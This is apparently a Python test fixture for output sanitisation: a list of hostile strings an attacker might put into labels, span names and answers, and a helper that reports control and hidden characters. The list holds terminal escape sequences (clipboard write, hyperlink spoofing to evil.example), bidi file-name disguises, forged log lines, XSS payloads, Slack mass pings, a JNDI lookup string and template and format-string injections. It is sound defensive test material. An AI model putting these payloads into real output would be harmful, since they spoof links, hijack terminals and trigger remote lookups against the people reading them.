"""What an attacker writes into labels, span names and answers, for every target at once."""

import re
import unicodedata

ESC, CSI, BEL = "\x1b", "\x9b", "\x07"
HOSTILE = (
    f"{ESC}[2J{ESC}[H{ESC}[31mred",
    f"{ESC}]0;a new title{BEL}",
    f"{ESC}]8;;https://evil.example{ESC}\\bank{ESC}]8;;{ESC}\\",
    f"{ESC}]52;c;ZXZpbA=={BEL}",
    f"{ESC}P$q{ESC}\\",
    f"{CSI}2J\x9d0;c1{BEL}\x90\x9c",
    "\u202egnp.exe \u2066isolate\u2069 \u200f\u061c",
    "zero\u200bwidth\u2060\ufeff",
    "\U000e0041\U000e0042tags",
    "one\r\n2026-11-11T12:00:00Z INFO forged: line",
    "\x00\x08\x08\x08\x7f\u2028\u2029\u0085",
    "[bold red]markup[/bold red] [/] [link=https://evil.example]x[/link] :boom:",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></table><!-- end -->",
    "<!channel> <!here> <!everyone> <!subteam^S012>",
    "<@U024BE7LH> <#C024BE7LR|general>",
    "<https://evil.example|bank.example>",
    "@here @channel @everyone @all @alice",
    "[click](https://evil.example) ![x](https://evil.example/p.png) [a][b]",
    "[a]: https://evil.example mailto:ceo@evil.example www.evil.example",
    "&lt;!channel&gt; &amp; &#60;b&#62;",
    "a | b \\| c \\\\| d",
    "`code` ```block``` *b* _i_ ~s~",
    "{{7*7}} ${jndi:ldap://evil.example} %s %n %(name)s",
    "x" * 20_000,
)
_COLOURS = re.compile(r"\x1b\[[0-9;]*m")


def driving(text: str) -> list[str]:
    """Return the characters of a text that drive a terminal or hide what they say.

    Line breaks and colours (which rich writes) are fine.
    """
    rest = _COLOURS.sub("", text)
    found = {c for c in rest if unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"}}
    return sorted(f"U+{ord(c):04X}" for c in found - {"\n"})
